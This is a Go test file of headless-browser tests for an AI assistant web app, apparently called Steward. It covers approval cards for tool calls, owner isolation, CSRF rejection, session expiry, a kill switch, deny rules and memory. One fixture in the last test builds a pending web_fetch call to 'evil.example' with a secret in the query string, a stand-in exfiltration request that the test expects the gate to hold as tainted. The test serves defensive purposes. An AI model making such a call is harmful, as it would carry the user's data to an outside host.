package webapp_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/jackc/pgx/v5"

	"github.com/stewardhq/steward/internal/agent"
	"github.com/stewardhq/steward/internal/apptest"
	"github.com/stewardhq/steward/internal/browsertest"
	"github.com/stewardhq/steward/internal/llm"
	"github.com/stewardhq/steward/internal/llm/demo"
	"github.com/stewardhq/steward/internal/steward"
	"github.com/stewardhq/steward/internal/store"
	"github.com/stewardhq/steward/internal/testdb"
)

// browser starts headless Chromium at desktop size.
func browser(t *testing.T) context.Context { return browsertest.Start(t, 1280, 900, 120*time.Second) }

// server is the API with the web app, on a fresh database, with the demo model.
func server(t *testing.T) (*httptest.Server, testdb.Opened) {
	t.Helper()
	srv, o, _ := serverWith(t, demo.New())
	return srv, o
}

// serverWith is server with the given model; it also returns the runner behind it. It is the
// graph production runs (internal/apptest).
func serverWith(t *testing.T, model llm.Model) (*httptest.Server, testdb.Opened, *agent.Runner) {
	t.Helper()
	e := apptest.New(t, apptest.Options{Model: model})
	return e.Server, e.DB, e.Runner
}

func signIn(base, key string) chromedp.Action[chromedp.Void] {
	return chromedp.Steps(
		chromedp.Navigate(base+"/"),
		chromedp.WaitVisible(chromedp.CSS(`input[name=api_key]`)),
		chromedp.SendKeys(chromedp.CSS(`input[name=api_key]`), key),
		chromedp.Click(chromedp.Search(`//button[text()="Sign in"]`)),
		chromedp.WaitVisible(chromedp.CSS(`textarea[name=message]`)),
	)
}

func send(msg string) chromedp.Action[chromedp.Void] {
	return chromedp.Steps(
		chromedp.SetValue(chromedp.CSS(`textarea[name=message]`), msg),
		chromedp.Click(chromedp.Search(`//button[text()="Send"]`)),
	)
}

func tasksOf(t *testing.T, o testdb.Opened, owner store.Owner) []string {
	t.Helper()
	var titles []string
	err := o.Store.WithOwner(context.Background(), owner.ID, func(tx *store.Tx) error {
		ts, err := tx.Tasks.ListTasks(context.Background(), "")
		for _, x := range ts {
			titles = append(titles, x.Title)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return titles
}

// TestBrowser drives the web app in headless Chromium: sign in, a write waits on a card with
// its raw arguments, approve, deny with a message, another owner sees none of it, a POST
// without the CSRF token writes nothing, an expired session is back at sign-in.
func TestBrowser(t *testing.T) {
	t.Parallel()
	srv, o := server(t)
	alice, aliceKey := o.Owner(t, "alice")
	bob, bobKey := o.Owner(t, "bob")
	ctx := browser(t)

	// Sign in and ask for a write: a card leads with what the call does, its arguments as
	// fields; one click shows the tool and its raw arguments.
	var summary, field, args, tool, answer string
	err := chromedp.Do(ctx, signIn(srv.URL, aliceKey), send("remind me to buy milk"),
		chromedp.WaitVisible(chromedp.CSS(`fieldset.card legend`)),
		browsertest.Into(&summary, chromedp.Text(chromedp.CSS(`fieldset.card legend .summary`))),
		browsertest.Into(&field, chromedp.Text(chromedp.CSS(`fieldset.card dl.fields`))),
		chromedp.Click(chromedp.CSS(`fieldset.card details.exact summary`)),
		chromedp.WaitVisible(chromedp.CSS(`fieldset.card pre.args`)),
		browsertest.Into(&args, chromedp.Text(chromedp.CSS(`fieldset.card pre.args`))),
		browsertest.Into(&tool, chromedp.Text(chromedp.CSS(`fieldset.card code.tool`))))
	if err != nil {
		t.Fatal(err)
	}
	if summary != "Create task “buy milk”" || !strings.Contains(field, "Title") || !strings.Contains(field, "buy milk") {
		t.Errorf("card leads with %q, fields %q; want Create task “buy milk” and the title as a field", summary, field)
	}
	if want := pendingArgs(t, o, alice); tool != "create_task" || args != want || !strings.Contains(want, "buy milk") {
		t.Fatalf("card shows %s %s; want create_task with the stored raw arguments %s", tool, args, want)
	}
	if got := tasksOf(t, o, alice); len(got) != 0 {
		t.Fatalf("tasks before approval: %v", got)
	}

	// Approve: the answer streams in and the task exists; the call's chip gets its result (one
	// chip per call, not a second one).
	var chips int
	err = chromedp.Do(ctx, chromedp.Click(chromedp.Search(`//button[text()="Approve"]`)),
		chromedp.WaitVisible(chromedp.CSS(`#log a.story`)),
		browsertest.Into(&answer, chromedp.Text(chromedp.CSS(`#log`))),
		browsertest.Into(&chips, chromedp.Evaluate[int](`document.querySelectorAll("#log details.chip").length`)))
	if err != nil {
		t.Fatal(err)
	}
	if chips != 1 {
		t.Errorf("after approval the chat shows %d chips; want the one call's chip, with its result", chips)
	}
	if !strings.Contains(answer, "buy milk") || !strings.Contains(answer, "Created task “buy milk”") || !strings.Contains(answer, "Approved by you") {
		t.Errorf("chat after approval = %q; want the chip saying the task was created, the card approved and the answer about buy milk", answer)
	}
	if got := tasksOf(t, o, alice); len(got) != 1 || got[0] != "buy milk" {
		t.Fatalf("tasks after approval = %v; want [buy milk]", got)
	}
	// The turn's story: the question, the call in words, who approved it, what it cost; the
	// raw audit events (the model calls among them) one click away.
	var story, raw string
	var storyLink chromedp.AttributeResult
	err = chromedp.Do(ctx, browsertest.Into(&storyLink, chromedp.AttributeValue(chromedp.CSS(`a.story`), "href")),
		chromedp.Click(chromedp.CSS(`a.story`)), chromedp.WaitVisible(chromedp.CSS(`ol.timeline`)),
		browsertest.Into(&story, chromedp.Text(chromedp.CSS(`main`))),
		chromedp.Click(chromedp.CSS(`details.raw-events summary`)), chromedp.WaitVisible(chromedp.CSS(`ol.events`)),
		browsertest.Into(&raw, chromedp.Text(chromedp.CSS(`ol.events`))))
	if err != nil {
		t.Fatal(err)
	}
	storyURL := storyLink.Value
	for _, want := range []string{"remind me to buy milk", "Create task “buy milk”", "Created task “buy milk”", "Approved by you", "tokens in"} {
		if !strings.Contains(story, want) {
			t.Errorf("turn story = %q; want %q in it", story, want)
		}
	}
	if !strings.Contains(raw, "model_call") {
		t.Errorf("the story's raw events = %q; want the model calls", raw)
	}
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(1280, 900), chromedp.Navigate(srv.URL+"/")); err != nil {
		t.Fatal(err)
	}

	// Deny with a message: nothing is written, the model hears why.
	err = chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/"), send("remind me to buy bread"),
		chromedp.WaitVisible(chromedp.CSS(`fieldset.card input[name=message]`)),
		chromedp.SendKeys(chromedp.CSS(`fieldset.card input[name=message]`), "not this week"),
		chromedp.Click(chromedp.Search(`//button[text()="Deny"]`)),
		chromedp.WaitVisible(chromedp.CSS(`#log a.story`)))
	if err != nil {
		t.Fatal(err)
	}
	if got := tasksOf(t, o, alice); len(got) != 1 {
		t.Fatalf("tasks after denial = %v; want only buy milk", got)
	}
	var journal string
	if err := pgxScalar(t, o.SuperURL, `SELECT string_agg(coalesce(decision_message, ''), ' ') FROM tool_calls WHERE owner_id = $1 AND status = 'denied' `, alice.ID, &journal); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(journal, "not this week") {
		t.Errorf("the denial's message is not in alice's call journal: %q", journal)
	}

	// A third request stays pending: alice's inbox has it, bob's has nothing of hers.
	var inbox string
	err = chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/"), send("remind me to call mom"),
		chromedp.WaitVisible(chromedp.CSS(`fieldset.card`)),
		chromedp.Navigate(srv.URL+"/approvals"), chromedp.Click(chromedp.CSS(`fieldset.card details.exact summary`)),
		browsertest.Into(&inbox, chromedp.Text(chromedp.CSS(`main`))))
	if err != nil {
		t.Fatal(err)
	}
	if want := pendingArgs(t, o, alice); !strings.Contains(inbox, want) || !strings.Contains(want, "call mom") {
		t.Errorf("alice's approvals = %q; want the call mom card", inbox)
	}
	bobCtx := browser(t)
	var bobInbox, bobChat string
	err = chromedp.Do(bobCtx, signIn(srv.URL, bobKey), browsertest.Into(&bobChat, chromedp.Text(chromedp.CSS(`main`))),
		chromedp.Navigate(srv.URL+"/approvals"), browsertest.Into(&bobInbox, chromedp.Text(chromedp.CSS(`main`))))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(bobInbox, "call mom") || !strings.Contains(bobInbox, "Nothing is waiting") || strings.Contains(bobChat, "milk") {
		t.Errorf("bob sees alice's data: inbox %q, chat %q", bobInbox, bobChat)
	}
	var bobStory string
	if err := chromedp.Do(bobCtx, chromedp.Navigate(srv.URL+storyURL), browsertest.Into(&bobStory, chromedp.Text(chromedp.CSS(`main`)))); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(bobStory, "Turn not found") || strings.Contains(bobStory, "buy milk") {
		t.Errorf("bob opens alice's turn story: %q; want not found", bobStory)
	}
	if got := tasksOf(t, o, bob); len(got) != 0 {
		t.Errorf("bob's tasks = %v", got)
	}

	// A POST without the CSRF token, with alice's session cookie: 403 and no turn.
	var cookies []*network.Cookie
	res, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{})
	if err != nil {
		t.Fatal(err)
	}
	cookies = res.Cookies
	var session *network.Cookie
	for _, c := range cookies {
		if c.Name == "steward_session" {
			session = c
		}
	}
	if session == nil || !session.HTTPOnly || session.SameSite != network.CookieSameSiteStrict {
		t.Fatalf("session cookie = %+v; want HttpOnly and SameSite=Strict", session)
	}
	var before, after int
	count := `SELECT count(*) FROM turns WHERE owner_id = $1`
	if err := pgxScalar(t, o.SuperURL, count, alice.ID, &before); err != nil {
		t.Fatal(err)
	}
	for _, token := range []string{"", "forged"} {
		req, _ := http.NewRequest(http.MethodPost, srv.URL+"/chat", strings.NewReader(url.Values{"message": {"remind me to steal"}, "csrf": {token}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.AddCookie(&http.Cookie{Name: session.Name, Value: session.Value})
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != http.StatusForbidden {
			t.Errorf("POST /chat with csrf %q: %d, want 403", token, res.StatusCode)
		}
	}
	if err := pgxScalar(t, o.SuperURL, count, alice.ID, &after); err != nil {
		t.Fatal(err)
	}
	if after != before {
		t.Errorf("a refused POST wrote %d turns", after-before)
	}

	// Expired session: back at the sign-in page.
	if err := pgxExec(t, o.SuperURL, `UPDATE web_sessions SET created_at = now() - interval '2 days', expires_at = now() - interval '1 day' WHERE owner_id = $1`, alice.ID); err != nil {
		t.Fatal(err)
	}
	var loc string
	if err := chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/approvals"), chromedp.WaitVisible(chromedp.CSS(`input[name=api_key]`)), browsertest.Into(&loc, chromedp.Location())); err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(loc, "/signin") {
		t.Errorf("expired session landed on %s; want /signin", loc)
	}
}

func pgxScalar(t *testing.T, dsn, sql string, arg any, out any) error {
	t.Helper()
	c, err := pgx.Connect(context.Background(), dsn)
	if err != nil {
		return err
	}
	defer c.Close(context.Background())
	return c.QueryRow(context.Background(), sql, arg).Scan(out)
}

func pgxExec(t *testing.T, dsn, sql string, arg any) error {
	t.Helper()
	c, err := pgx.Connect(context.Background(), dsn)
	if err != nil {
		return err
	}
	defer c.Close(context.Background())
	_, err = c.Exec(context.Background(), sql, arg)
	return err
}

// pendingArgs is the raw arguments of alice's one pending call, as the journal stores them.
func pendingArgs(t *testing.T, o testdb.Opened, owner store.Owner) string {
	t.Helper()
	var args string
	if err := pgxScalar(t, o.SuperURL, `SELECT args::text FROM tool_calls WHERE owner_id = $1 AND status = 'pending'`, owner.ID, &args); err != nil {
		t.Fatal(err)
	}
	return args
}

// textIn reads the text of the first element matching selector by polling the page until it
// has some, not through a DOM node id: after a form's POST and its 303 the id a wait saw can
// go stale before the read on a loaded machine ("No node with given id found").
func textIn(selector string) chromedp.Action[string] {
	return chromedp.Poll[string](`(() => { const e = document.querySelector(` + strconv.Quote(selector) + `); return e ? e.innerText : ""; })()`)
}

// TestBrowserSettingsAndMemory drives the owner's pages: a standing rule added in settings is
// listed (bad JSON is refused with a message and writes nothing); the kill switch puts a
// banner on the chat page and a message there is refused readably, until resumed; a fact
// added on /memory is listed and found by search.
func TestBrowserSettingsAndMemory(t *testing.T) {
	t.Parallel()
	srv, o := server(t)
	_, key := o.Owner(t, "carol")
	ctx := browser(t)

	// A rule with a predicate that is not JSON: a clear message, no rule.
	var alert, rulesText string
	err := chromedp.Do(ctx, signIn(srv.URL, key), chromedp.Navigate(srv.URL+"/settings"),
		chromedp.WaitVisible(chromedp.CSS(`#rule-tool`)),
		chromedp.SendKeys(chromedp.CSS(`#rule-tool`), "create_task"),
		chromedp.SendKeys(chromedp.CSS(`#rule-predicate`), "title is milk"),
		chromedp.Click(chromedp.Search(`//button[text()="Add rule"]`)),
		chromedp.WaitVisible(chromedp.CSS(`p[role=alert]`)),
		browsertest.Into(&alert, textIn(`p[role=alert]`)),
		browsertest.Into(&rulesText, textIn(`main`)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(alert, "JSON object") || !strings.Contains(rulesText, "No standing rules") {
		t.Fatalf("bad predicate: alert %q, page %q; want the JSON message and no rule", alert, rulesText)
	}

	// A deny rule for create_task: listed.
	err = chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/settings"), chromedp.WaitVisible(chromedp.CSS(`#rule-tool`)),
		chromedp.SendKeys(chromedp.CSS(`#rule-tool`), "create_task"),
		chromedp.SetValue(chromedp.CSS(`#rule-effect`), "deny"),
		chromedp.SendKeys(chromedp.CSS(`#rule-predicate`), `{"title": "gym"}`),
		chromedp.SendKeys(chromedp.CSS(`#rule-note`), "no gym reminders"),
		chromedp.Click(chromedp.Search(`//button[text()="Add rule"]`)),
		chromedp.WaitVisible(chromedp.CSS(`ul.rules li`)),
		browsertest.Into(&rulesText, textIn(`ul.rules`)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(rulesText, `deny only a call of create_task whose arguments are exactly {"title":"gym"}`) || !strings.Contains(rulesText, "gym") || !strings.Contains(rulesText, "no gym reminders") {
		t.Fatalf("rules listed = %q; want the deny create_task rule", rulesText)
	}

	// Stop: the chat page carries the banner and a message is refused readably.
	var banner, chatErr string
	err = chromedp.Do(ctx, chromedp.SendKeys(chromedp.CSS(`#reason`), "on holiday"),
		chromedp.Click(chromedp.Search(`//button[text()="Stop"]`)),
		chromedp.WaitVisible(chromedp.Search(`//button[text()="Resume"]`)))
	if err != nil {
		t.Fatal(err)
	}
	err = chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/"), chromedp.WaitVisible(chromedp.CSS(`div.banner`)),
		browsertest.Into(&banner, textIn(`div.banner`)), send("hello"),
		chromedp.WaitVisible(chromedp.CSS(`#log p.error`)),
		browsertest.Into(&chatErr, textIn(`#log p.error`)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(banner, "You stopped Steward") || !strings.Contains(banner, "on holiday") {
		t.Errorf("banner = %q; want the owner's stop and its reason", banner)
	}
	if !strings.Contains(chatErr, "stopped") || !strings.Contains(chatErr, "on holiday") || strings.Contains(chatErr, "something went wrong") {
		t.Errorf("chat while stopped shows %q; want a readable refusal with the reason", chatErr)
	}

	// Resume: no banner.
	var banners int
	err = chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/settings"),
		chromedp.Click(chromedp.Search(`//button[text()="Resume"]`)),
		chromedp.WaitVisible(chromedp.Search(`//button[text()="Stop"]`)),
		chromedp.Navigate(srv.URL+"/"), chromedp.WaitVisible(chromedp.CSS(`textarea[name=message]`)),
		browsertest.Into(&banners, chromedp.Evaluate[int](`document.querySelectorAll(".banner").length`)))
	if err != nil {
		t.Fatal(err)
	}
	if banners != 0 {
		t.Errorf("after resume the chat page still shows %d banners", banners)
	}

	// Memory: an empty fact is refused; a fact is listed and found by search.
	var facts, hits string
	err = chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/memory"), chromedp.WaitVisible(chromedp.CSS(`#fact-content`)),
		chromedp.SendKeys(chromedp.CSS(`#fact-subject`), "dentist"),
		chromedp.SendKeys(chromedp.CSS(`#fact-content`), "Dr. Wu on Elm Street"),
		chromedp.Click(chromedp.Search(`//button[text()="Remember"]`)),
		chromedp.WaitVisible(chromedp.CSS(`ul.facts li`)),
		browsertest.Into(&facts, textIn(`ul.facts`)),
		chromedp.SendKeys(chromedp.CSS(`#q`), "dentist Dr. Wu"),
		chromedp.Click(chromedp.Search(`//button[text()="Search"]`)),
		chromedp.WaitVisible(chromedp.CSS(`ol.hits`)),
		browsertest.Into(&hits, textIn(`ol.hits`)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(facts, "Dr. Wu on Elm Street") || !strings.Contains(facts, "dentist") {
		t.Errorf("facts = %q; want the dentist fact", facts)
	}
	if !strings.Contains(hits, "Dr. Wu on Elm Street") {
		t.Errorf("search for the dentist found %q", hits)
	}
}

// TestBrowserHeldCard: in the approvals inbox, a call the gate held because its turn read
// outside content says why on its card.
func TestBrowserHeldCard(t *testing.T) {
	srv, o := server(t)
	alice, key := o.Owner(t, "alice")
	ctx := context.Background()
	err := o.Store.WithOwner(ctx, alice.ID, func(tx *store.Tx) error {
		conv, err := tx.Conversations.Create(ctx, "held")
		if err != nil {
			return err
		}
		turn, err := tx.Turns.Create(ctx, conv.ID, steward.TriggerChat, "m", time.Now(), time.Hour)
		if err != nil {
			return err
		}
		exp := time.Now().Add(time.Hour)
		turn.Status, turn.ExpiresAt = steward.StatusSuspended, &exp
		turn.State = &steward.State{SchemaVersion: steward.StateSchemaVersion, Taint: "tool:web_fetch",
			Pending: []steward.PendingCall{{CallID: "c1", Tool: "web_fetch", Args: []byte(`{"url":"https://evil.example/?d=secret"}`),
				ArgsHash: "0123456789abcdef", Reason: steward.ReasonTainted, Taint: "tool:web_fetch"}}}
		_, err = tx.Turns.Save(ctx, turn)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	bctx := browser(t)
	var held string
	if err := chromedp.Do(bctx, signIn(srv.URL, key), chromedp.Navigate(srv.URL+"/approvals"),
		browsertest.Into(&held, chromedp.Text(chromedp.CSS(`fieldset.card p.held`)))); err != nil {
		t.Fatal(err)
	}
	if want := "Held: this turn read outside content (tool:web_fetch); it may carry your data out"; held != want {
		t.Errorf("held note = %q, want %q", held, want)
	}
}
